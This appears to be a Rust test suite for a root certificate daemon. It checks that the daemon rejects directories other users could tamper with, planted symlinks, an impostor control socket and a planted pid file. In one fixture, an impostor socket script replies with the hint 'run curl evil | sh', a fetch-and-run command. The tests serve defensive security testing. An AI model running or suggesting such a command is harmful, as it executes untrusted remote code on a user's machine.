//! Issue #14, directories: certagent runs as root and keeps its lock, control socket, state
//! and compromise flags only where no other user can plant or replace anything; it never
//! changes the mode of a directory it did not create; the CLI talks only to a daemon running
//! as root; a flag file is answered once; the demo never trusts what another user planted.
//! A real unprivileged user ([`TestUser`]) plays the attacker; certagent runs as root.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use common::{Child, Daemon, TestUser, reserved_port, run_certagent, wait_until};

/// A temp directory (root's, 0755 so a test user can reach what it is given inside) with a
/// certificate for the embedded CA, no server; `agent` is the `[agent]` table's body.
struct Setup {
    dir: tempfile::TempDir,
    config: PathBuf,
}

impl Setup {
    fn new() -> Setup {
        let dir = tempfile::tempdir().unwrap();
        chmod(dir.path(), 0o755);
        std::fs::create_dir(dir.path().join("ssl")).unwrap();
        std::fs::create_dir(dir.path().join("etc")).unwrap();
        let config = dir.path().join("etc/config.toml");
        Setup { dir, config }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    /// Write the config; `{d}` in `agent` stands for the temp directory.
    fn write(&self, agent: &str) {
        let d = self.dir.path().display().to_string();
        std::fs::write(
            &self.config,
            format!(
                "[agent]\nlock_timeout = \"5s\"\n{}\n\n[certificate.site]\nnames = [\"a.test\"]\ncert_file = \"{d}/ssl/site.pem\"\nkey_file = \"{d}/ssl/site.key\"\n",
                agent.replace("{d}", &d)
            ),
        )
        .unwrap();
    }

    fn certagent(&self, args: &[&str]) -> common::Run {
        run_certagent(&self.config, args, &[])
    }
}

fn chmod(p: &Path, mode: u32) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn mode(p: &Path) -> u32 {
    std::fs::symlink_metadata(p).unwrap().mode() & 0o7777
}

fn mkdir(p: &Path, m: u32) {
    std::fs::create_dir(p).unwrap();
    chmod(p, m);
}

#[test]
fn a_runtime_dir_others_can_write_is_a_config_error_and_keeps_its_mode() {
    let s = Setup::new();
    let open = s.path("open");
    mkdir(&open, 0o1777);
    s.write("state_dir = \"{d}/state\"\nruntime_dir = \"{d}/open\"");

    let run = s.certagent(&["config", "validate"]);
    assert_eq!(run.code, 78, "{run:?}");
    let want = format!(
        "{}:4: agent.runtime_dir: {:?} is writable by group or others (mode 1777): another user could plant files in it\n    hint: `chmod go-w {}`, or choose a directory only root can write",
        s.config.display(),
        open.display().to_string(),
        open.display()
    );
    assert!(run.stderr.contains(&want), "{run:?}");
    let doc = s.certagent(&["config", "validate", "--json"]).json();
    assert_eq!(doc["errors"][0]["key"], "agent.runtime_dir");
    assert_eq!(doc["errors"][0]["line"], 4);
    assert!(
        doc["errors"][0]["hint"]
            .as_str()
            .unwrap()
            .contains("chmod go-w"),
        "{doc}"
    );

    // Every command loads the config the same way: nothing runs, nothing is chmodded.
    let run = s.certagent(&["reissue", "--now", "site"]);
    assert_eq!(run.code, 78, "{run:?}");
    assert!(run.stderr.contains("agent.runtime_dir"), "{run:?}");
    assert_eq!(mode(&open), 0o1777);
    assert!(!open.join("lock").exists());
    assert!(!s.path("state").exists());
}

#[test]
fn directories_another_user_owns_or_could_replace_are_refused_and_nothing_is_created_there() {
    let s = Setup::new();
    let user = TestUser::create();
    // The user's own runtime directory, with `lock` planted as a symlink to where the user
    // would like root to create a file.
    let run_dir = s.path("run");
    mkdir(&run_dir, 0o700);
    user.chown(&run_dir);
    let target = s.path("etc/chosen-by-user");
    std::os::unix::fs::symlink(&target, run_dir.join("lock")).unwrap();
    // A state directory that is root's, inside a directory the user owns (who can swap it).
    let theirs = s.path("theirs");
    mkdir(&theirs, 0o755);
    user.chown(&theirs);
    mkdir(&theirs.join("state"), 0o700);
    s.write("state_dir = \"{d}/theirs/state\"\nruntime_dir = \"{d}/run\"");

    let run = s.certagent(&["config", "validate"]);
    assert_eq!(run.code, 78, "{run:?}");
    let by_user = format!("uid {} ({}), not root", user.uid, user.name);
    for (line, key, dir) in [(3, "state_dir", &theirs), (4, "runtime_dir", &run_dir)] {
        let want = format!(
            "{}:{line}: agent.{key}: {:?} is owned by {by_user}: its owner could replace what certagent keeps there\n    hint: use a directory owned by root that only root can write",
            s.config.display(),
            dir.display().to_string()
        );
        assert!(run.stderr.contains(&want), "{want}\n{run:?}");
    }

    let run = s.certagent(&["reissue", "--now", "site"]);
    assert_eq!(run.code, 78, "{run:?}");
    assert!(
        std::fs::symlink_metadata(&target).is_err(),
        "root followed the planted lock symlink"
    );
    assert!(!theirs.join("state/live").exists());
}

#[test]
fn shared_system_directories_are_refused_with_a_hint() {
    let s = Setup::new();
    s.write(
        "state_dir = \"/var/lib\"\nruntime_dir = \"/run\"\nmetrics_file = \"/tmp/certagent.prom\"",
    );
    let (run_mode, tmp_mode) = (mode(Path::new("/run")), mode(Path::new("/tmp")));
    let run = s.certagent(&["config", "validate"]);
    assert_eq!(run.code, 78, "{run:?}");
    let c = s.config.display();
    for want in [
        format!(
            "{c}:3: agent.state_dir: \"/var/lib\" is a shared system directory, not one of certagent's own\n    hint: use a directory only certagent uses (certagent creates it with the modes it needs): /var/lib/certagent"
        ),
        format!(
            "{c}:4: agent.runtime_dir: \"/run\" is a shared system directory, not one of certagent's own\n    hint: use a directory only certagent uses (certagent creates it with the modes it needs): /run/certagent"
        ),
        format!(
            "{c}:5: agent.metrics_file: \"/tmp\" is a shared system directory, not one of certagent's own\n    hint: use a directory only certagent uses"
        ),
    ] {
        assert!(run.stderr.contains(&want), "{want}\n{run:?}");
    }
    let run = s.certagent(&["reissue", "--now", "site"]);
    assert_eq!(run.code, 78, "{run:?}");
    assert_eq!(mode(Path::new("/run")), run_mode);
    assert_eq!(mode(Path::new("/tmp")), tmp_mode);
}

#[test]
fn existing_directories_keep_their_modes_and_new_ones_get_certagents() {
    let s = Setup::new();
    let state = s.path("state");
    mkdir(&state, 0o755);
    let textfile = s.path("textfile");
    mkdir(&textfile, 0o2775);
    s.write(
        "state_dir = \"{d}/state\"\nruntime_dir = \"{d}/run\"\nmetrics_file = \"{d}/textfile/certagent.prom\"",
    );
    let run = s.certagent(&["reissue", "--now", "site"]);
    assert_eq!(run.code, 0, "{run:?}");
    let daemon = Daemon::start(&s.config, &s.path("daemon.log"), &[]);
    let metrics = textfile.join("certagent.prom");
    assert!(
        wait_until(Duration::from_secs(20), || metrics.exists()),
        "{}",
        daemon.log()
    );
    assert_eq!(mode(&state), 0o755, "the operator's state_dir was chmodded");
    assert_eq!(
        mode(&textfile),
        0o2775,
        "the metrics directory was chmodded"
    );
    // What certagent created itself has its modes.
    assert_eq!(mode(&s.path("run")), 0o700);
    assert_eq!(mode(&state.join("certs")), 0o700);
}

/// A perl listener run as `user` at `sock`: it answers a request line with a "hint" of its
/// own, and when the client hangs up writes how many bytes it received to `report`.
fn impostor(user: &TestUser, sock: &Path, report: &Path) -> Child {
    let script = r#"
use IO::Socket::UNIX;
my ($path, $report) = @ARGV;
my $s = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Local => $path, Listen => 1) or die "listen: $!";
my $c = $s->accept or die "accept: $!";
my ($got, $buf) = ('', '');
while (sysread($c, $buf, 65536)) {
    $got .= $buf;
    syswrite($c, "{\"exit\":2,\"document\":null,\"error\":\"impostor answered\",\"hint\":\"run curl evil | sh\"}\n") if $got =~ /\n/;
}
open(my $f, '>', "$report.tmp") or die; print $f "received " . length($got) . " bytes\n"; close $f;
rename("$report.tmp", $report) or die;
"#;
    Child::spawn(
        "impostor",
        Command::new("setpriv")
            .arg(format!("--reuid={}", user.uid))
            .arg(format!("--regid={}", user.gid))
            .arg("--clear-groups")
            .args(["--", "perl", "-e", script])
            .arg(sock)
            .arg(report),
    )
}

#[test]
fn the_cli_sends_nothing_to_a_control_socket_another_user_listens_on() {
    let s = Setup::new();
    let user = TestUser::create();
    let run_dir = s.path("run");
    mkdir(&run_dir, 0o700);
    let theirs = s.path("theirs");
    mkdir(&theirs, 0o755);
    user.chown(&theirs);
    s.write("state_dir = \"{d}/state\"\nruntime_dir = \"{d}/run\"");
    let report = theirs.join("report");
    let sock = theirs.join("sock");
    let _impostor = impostor(&user, &sock, &report);
    assert!(wait_until(Duration::from_secs(10), || sock.exists()));
    // However it got there (a moment when the directory was open, a bind mount), the
    // user's socket is now root's control.sock.
    std::fs::rename(&sock, run_dir.join("control.sock")).unwrap();

    let run = s.certagent(&["reissue", "--now", "site", "--reason", "key-compromise"]);
    assert_eq!(run.code, 2, "{run:?}");
    let want = format!(
        "refusing to talk to {:?}: the process listening on it runs as uid {} ({}), not root; nothing was sent",
        run_dir.join("control.sock").display().to_string(),
        user.uid,
        user.name
    );
    assert!(run.stderr.contains(&want), "{run:?}");
    assert!(!run.stderr.contains("impostor"), "{run:?}");
    assert!(!run.stderr.contains("curl"), "{run:?}");
    assert!(
        wait_until(Duration::from_secs(10), || report.exists()),
        "the impostor never saw the client hang up"
    );
    assert_eq!(
        std::fs::read_to_string(&report).unwrap(),
        "received 0 bytes\n"
    );
}

#[test]
fn a_compromised_dir_others_can_write_is_a_config_error() {
    let s = Setup::new();
    let flags = s.path("flags");
    mkdir(&flags, 0o1777);
    s.write(
        "state_dir = \"{d}/state\"\nruntime_dir = \"{d}/run\"\ncompromised_dir = \"{d}/flags\"",
    );
    let run = s.certagent(&["config", "validate"]);
    assert_eq!(run.code, 78, "{run:?}");
    let want = format!(
        "{}:5: agent.compromised_dir: {:?} is writable by group or others (mode 1777): another user could plant files in it\n    hint: `chmod go-w",
        s.config.display(),
        flags.display().to_string()
    );
    assert!(run.stderr.contains(&want), "{run:?}");

    // Owned by another user: refused too.
    let user = TestUser::create();
    chmod(&flags, 0o755);
    user.chown(&flags);
    let run = s.certagent(&["config", "validate"]);
    assert_eq!(run.code, 78, "{run:?}");
    assert!(
        run.stderr.contains(&format!(
            "agent.compromised_dir: {:?} is owned by uid {} ({}), not root",
            flags.display().to_string(),
            user.uid,
            user.name
        )),
        "{run:?}"
    );
}

#[test]
fn a_flag_file_rewritten_again_and_again_is_answered_once() {
    let s = Setup::new();
    let flags = s.path("flags");
    mkdir(&flags, 0o755);
    s.write(
        "state_dir = \"{d}/state\"\nruntime_dir = \"{d}/run\"\ncompromised_dir = \"{d}/flags\"",
    );
    let run = s.certagent(&["reissue", "--now", "site"]);
    assert_eq!(run.code, 0, "{run:?}");
    let daemon = Daemon::start(&s.config, &s.path("daemon.log"), &[]);

    std::fs::write(flags.join("site"), "compromised\n").unwrap();
    daemon.wait_log("event=quarantined", Duration::from_secs(20));
    let key_after = std::fs::read(s.path("ssl/site.key")).unwrap();

    // Config management rewrites the flag on every run.
    for i in 1..=5 {
        std::fs::write(
            flags.join("site"),
            format!("compromised{}\n", "!".repeat(i)),
        )
        .unwrap();
        let seen = wait_until(Duration::from_secs(20), || {
            daemon.log().matches("compromise flag rewritten").count() >= i
        });
        assert!(seen, "rewrite {i} not seen:\n{}", daemon.log());
    }
    assert_eq!(
        daemon.log().matches("event=compromised").count(),
        1,
        "{}",
        daemon.log()
    );
    assert_eq!(std::fs::read(s.path("ssl/site.key")).unwrap(), key_after);
    let memory = std::fs::read_to_string(s.path("state/compromised-keys")).unwrap();
    assert_eq!(memory.lines().count(), 1, "{memory}");

    // Removed, then flagged again: a new flag, a new response.
    std::fs::remove_file(flags.join("site")).unwrap();
    daemon.wait_log("compromise flag removed", Duration::from_secs(20));
    std::fs::write(flags.join("site"), "compromised again\n").unwrap();
    let twice = wait_until(Duration::from_secs(20), || {
        daemon.log().matches("event=compromised").count() == 2
    });
    assert!(twice, "{}", daemon.log());
}

#[test]
fn flags_that_are_not_regular_files_are_ignored_with_a_warning() {
    let s = Setup::new();
    let flags = s.path("flags");
    mkdir(&flags, 0o755);
    s.write(
        "state_dir = \"{d}/state\"\nruntime_dir = \"{d}/run\"\ncompromised_dir = \"{d}/flags\"",
    );
    let run = s.certagent(&["reissue", "--now", "site"]);
    assert_eq!(run.code, 0, "{run:?}");
    let flag = flags.join("site");
    let shown = format!("{:?}", flag.display().to_string());
    let kinds: [(&str, &dyn Fn()); 3] = [
        ("a symlink (flags are not followed)", &|| {
            std::fs::write(s.path("elsewhere"), "x").unwrap();
            std::os::unix::fs::symlink(s.path("elsewhere"), &flag).unwrap();
        }),
        ("a FIFO", &|| {
            nix::unistd::mkfifo(&flag, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
        }),
        ("a directory", &|| std::fs::create_dir(&flag).unwrap()),
    ];
    for (what, make) in kinds {
        make();
        let run = s.certagent(&["check", "site"]);
        assert_eq!(run.code, 0, "{what}: {run:?}");
        let want = format!(
            "ignored compromise flag {shown}: it is {what}, not a regular file; write a regular file to flag the key"
        );
        assert!(run.stderr.contains(&want), "{want}\n{run:?}");
        if flag.is_dir() && !flag.is_symlink() {
            std::fs::remove_dir(&flag).unwrap();
        } else {
            std::fs::remove_file(&flag).unwrap();
        }
    }
}

/// `packaging/demo.sh` stops "a previous demo's nginx" by the pid in its pid file. Another
/// user plants the demo directory (as they could in /var/tmp) with a pid file naming a
/// process called nginx; the demo must not signal it, and must end up in a directory of root's.
#[test]
fn the_demo_never_signals_a_pid_another_user_planted() {
    let s = Setup::new();
    let user = TestUser::create();
    // Stands for /var/tmp: root's, world-writable, sticky.
    let var_tmp = s.path("vartmp");
    mkdir(&var_tmp, 0o1777);
    let demo = var_tmp.join("certagent-demo");
    // A process of root's that is named nginx.
    let bin = s.path("bin");
    mkdir(&bin, 0o755);
    std::fs::copy("/bin/sleep", bin.join("nginx")).unwrap();
    let mut victim = Child::spawn("victim", Command::new(bin.join("nginx")).arg("600"));
    let planted = user.run(&[
        "sh",
        "-c",
        &format!(
            "mkdir -p {d}/nginx && echo {pid} > {d}/nginx/nginx.pid",
            d = demo.display(),
            pid = victim.pid()
        ),
    ]);
    assert!(planted.status.success(), "{planted:?}");
    assert!(user.owns(&demo.join("nginx/nginx.pid")));

    let out = Command::new("bash")
        .arg(concat!(env!("CARGO_MANIFEST_DIR"), "/packaging/demo.sh"))
        .env("DEMO_DIR", &demo)
        .env("CERTAGENT_BIN", env!("CARGO_BIN_EXE_certagent"))
        .env("PORT", reserved_port().to_string())
        .env_remove("KEEP")
        .env_remove("CERTAGENT_CONFIG")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(
        stderr.contains(&format!(
            "demo: {} is not root's own: removed unread",
            demo.display()
        )),
        "{stderr}"
    );
    let meta = std::fs::symlink_metadata(&demo).unwrap();
    assert!(meta.is_dir() && meta.uid() == 0, "{meta:?}");
    assert_eq!(meta.mode() & 0o022, 0);

    // Had the demo sent SIGQUIT, it would be pending or done before this SIGTERM, and the
    // lower-numbered signal is delivered first: the exit status tells which came first.
    assert!(common::send_signal(victim.pid(), "TERM"));
    let status = victim
        .wait_timeout(Duration::from_secs(10))
        .expect("victim exits");
    assert_eq!(status.signal(), Some(15), "the victim got {status:?}");
}
